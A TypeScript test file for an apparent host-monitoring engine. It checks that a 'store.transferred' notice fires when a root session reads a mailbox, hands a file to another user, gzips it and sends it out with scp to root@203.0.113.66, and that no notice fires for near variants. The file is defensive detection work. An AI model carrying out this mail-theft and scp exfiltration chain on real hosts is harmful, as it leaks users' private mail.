import assert from 'node:assert/strict';
import { test } from 'node:test';
import { epochMs } from '../core/time.ts';
import type { HostEvent } from '../events/host-events.ts';
import { applyHostEvent } from './apply.ts';
import { HostState } from './host.ts';
import { loadIdentity } from './identity/identity.ts';
import { LearnedDomains } from './mail/domains.ts';
import type { Notice } from './notices.ts';

const T = Date.UTC(2026, 10, 21, 9, 37);
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\ndev:x:1002:1002::/home/dev:/bin/bash\n';
const MINUTE = 60;

interface Login {
  readonly reader?: string[];
  readonly uid?: number;
  readonly ses?: number;
  readonly giver?: string[];
  readonly after?: number;
  /** Writes in /tmp are recorded. */
  readonly tmpWritten?: boolean;
}

/** dev opens a spool as root, gives a file away, and sends it packed; the notices of what left. */
function leaves({ reader, uid = 0, ses = 7, giver, after = 60, tmpWritten = false }: Login): string[] {
  const notices: Notice[] = [];
  const host = new HostState('mx1', {
    rules: { mailDirs: [], attachmentPaths: [] },
    identity: loadIdentity({ passwd: [PASSWD], domains: new LearnedDomains() }),
    programs: new Map(),
    notify: notice => notices.push(notice),
  });
  let order = 0;
  const file = (path: string) => ({ path, node: -1, mode: 0o100644, ownerUid: 1004 });
  const actor = (pid: number, exe: string, uidOf: number, sesOf: number) => ({
    pid,
    ppid: 90,
    uid: uidOf,
    euid: uidOf,
    auid: 1002,
    ses: sesOf,
    tty: 'pts1',
    comm: '',
    exe,
  });
  const at = (second: number, event: object): void => {
    order += 1;
    const ref = { source: 0, offset: order, length: 1, next: null };
    applyHostEvent(host, {
      host: 'mx1',
      ref,
      order,
      time: epochMs(T + second * 1000),
      ...event,
    } as unknown as HostEvent);
  };
  const starts = (second: number, pid: number, argv: string[], uidOf: number, sesOf: number): void =>
    at(second, {
      kind: 'process.started',
      actor: actor(pid, `/usr/bin/${argv[0]}`, uidOf, sesOf),
      file: { ...file(`/usr/bin/${argv[0]}`), ownerUid: 0 },
      argv,
      argvTruncated: false,
      cwd: '/home/dev',
    });
  const opens = (second: number, pid: number, exe: string, path: string, access: string): void =>
    at(second, {
      kind: 'file.opened',
      actor: actor(pid, exe, uid, 7),
      file: file(path),
      access,
      created: access === 'write',
      truncated: false,
      fd: 3,
    });
  opens(0, 80, '/usr/bin/vi', tmpWritten ? '/tmp/other' : '/home/dev/notes', 'write');
  const words = reader ?? ['s-nail', '-R', '-f', '/var/mail/buyer'];
  starts(1, 100, words, uid, 7);
  opens(1, 100, `/usr/bin/${words[0]}`, '/var/mail/buyer', 'read');
  starts(1 + after, 101, giver ?? ['chown', 'dev', '/tmp/todo.txt'], 0, ses);
  starts(2 + after, 102, ['gzip', '/tmp/todo.txt'], 1002, 8);
  starts(3 + after, 103, ['scp', '/tmp/todo.txt.gz', 'root@203.0.113.66:/tmp/x'], 1002, 8);
  return notices.flatMap(notice => (notice.kind === 'store.transferred' ? [notice.process.argv[0] ?? ''] : []));
}

test('what root gives away beside a mailbox that it opened was saved from it, packed and sent', () => {
  assert.deepEqual(leaves({}), ['scp']);
});

test('another login, another program, an hour later, or where files are recorded: nothing is inferred', () => {
  assert.deepEqual(leaves({ ses: 9 }), []);
  assert.deepEqual(leaves({ reader: ['grep', '-c', 'x', '/var/mail/buyer'] }), []);
  assert.deepEqual(leaves({ after: 61 * MINUTE }), []);
  assert.deepEqual(leaves({ tmpWritten: true }), []);
  assert.deepEqual(leaves({ uid: 1002 }), []);
  assert.deepEqual(leaves({ giver: ['ls', '/tmp/todo.txt'] }), []);
  assert.deepEqual(leaves({ giver: ['chown', 'dev', '/usr/bin/todo'] }), []);
});
